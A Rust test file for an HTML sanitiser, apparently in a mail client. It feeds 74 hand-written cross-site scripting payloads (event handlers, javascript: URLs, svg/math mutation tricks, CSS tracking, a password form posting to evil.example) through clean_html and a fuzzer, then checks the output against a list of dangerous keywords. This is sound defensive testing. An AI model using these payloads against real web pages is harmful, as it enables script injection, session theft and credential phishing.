//! HTML that means harm: nothing of it survives as anything but text.

use super::*;

/// Written by hand after the known kinds: handlers, schemes, raw text, foreign content, broken markup,
/// documents that read otherwise once they have been written.
const HOSTILE: [&str; 74] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=\"http://x\" onload=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<img src=x:x onerror\u{0}=alert(1)>",
    "<img srcset=\"http://evil.example/a 1x\" src=cid:a>",
    "<img src=\"attachments/../../api\">",
    "<img src=\"attachments/1?x\">",
    "<img src=\"files/../x\">",
    "<img src=\"/api/v1/workspace/me\">",
    "<img data-remote-src=\"javascript:alert(1)\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html,x\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/console\">x</a>",
    "<a href=\"http:/\\evil.example\">x</a>",
    "<a href=\"https://\">x</a>",
    "<a href=\"blob:https://x/y\">x</a>",
    "<a href=http://x onclick=alert(1) style=position:fixed target=_top ping=http://y>x</a>",
    "<a href='http://x\" onmouseover=\"alert(1)'>x</a>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<p style=\"background:url(http://t.example/p)\">x</p>",
    "<p style=\"text-align:center;x:expression(alert(1))\">x</p>",
    "<p style=\"text-align:center\\;background:url(//t)\">x</p>",
    "<p style=\"margin-left:1px}*{color:red\">x</p>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<applet code=x></applet><frameset onload=alert(1)><frame src=//evil></frameset>",
    "<form action=//evil.example><input name=password><button>send</button></form>",
    "<isindex action=javascript:alert(1)><textarea onfocus=alert(1) autofocus>x</textarea>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\"><body onload=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y \"<script>\">]>&y;",
    "<table background=javascript:alert(1)><td background=http://t.example>x",
    "<video src=http://t.example onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<select><option><img src=x onerror=alert(1)></option></select><details open ontoggle=alert(1)>x</details>",
    "<plaintext><script>alert(1)</script>",
];

#[test]
fn hostile_html_becomes_harmless() {
    for given in HOSTILE {
        for around in ["", "<p>", "<table><tr><td>", "<ul><li>", "<svg>", "<b><!--"] {
            // The rules themselves stand in the function of the fuzzer.
            fuzz::intake(format!("{around}{given}").as_bytes());
            let mail =
                format!("From: a@example.com\r\nContent-Type: text/html\r\n\r\n{around}{given}");
            fuzz::intake(mail.as_bytes());
        }
        let html = clean_html(given, Remote::Shown).html;
        let tags = html.split('<').skip(1).filter_map(|piece| piece.split('>').next());
        for tag in tags {
            let tag = tag.to_ascii_lowercase();
            for harm in [
                "script", "onerror", "onload", "alert", "evil", "iframe", "srcdoc", "url(", "data:",
            ] {
                // An address that leads away is what a link is for.
                let is_link = tag.starts_with("a href=\"http");
                assert!(is_link || !tag.contains(harm), "{given} became {html}");
            }
        }
    }
}

#[test]
fn addresses_that_trick_become_plain_or_nothing() {
    let link =
        |address: &str| clean_html(&format!("<a href=\"{address}\">x</a>"), Remote::Shown).html;
    for nothing in [
        "javascript:alert(1)",
        "//evil.example",
        "/x",
        "#x",
        "x",
        "http:x",
        "https://?x",
        "ftp://x/",
    ] {
        assert_eq!(link(nothing), "<a>x</a>", "{nothing}");
    }
    let written = |address: &str| {
        format!("<a href=\"{address}\" rel=\"noopener noreferrer\" target=\"_blank\">x</a>")
    };
    assert_eq!(link(" HTTPS://x/a b\tc"), written("HTTPS://x/a%20bc"));
    assert_eq!(link("http://x\\@y/"), written("http://x/@y/"));
    assert_eq!(link("http://x/'&quot;&lt;&gt;`"), written("http://x/%27%22%3C%3E%60"));
}

#[test]
fn foreign_content_is_gone_with_what_it_holds() {
    for (given, cleaned) in [
        ("a<svg><path d='M0'/><text>b</text></svg>c", "ac"),
        ("a<math><mi>b</mi></math>c", "ac"),
        ("a<style>b</style>c<title>d</title>e", "ace"),
        ("a<svg/>b", "ab"),
        ("a<noscript>b</noscript>c", "abc"),
        ("a<textarea><b></textarea>c", "a&lt;b&gt;c"),
    ] {
        assert_eq!(clean_html(given, Remote::Blocked).html, cleaned, "{given}");
    }
}
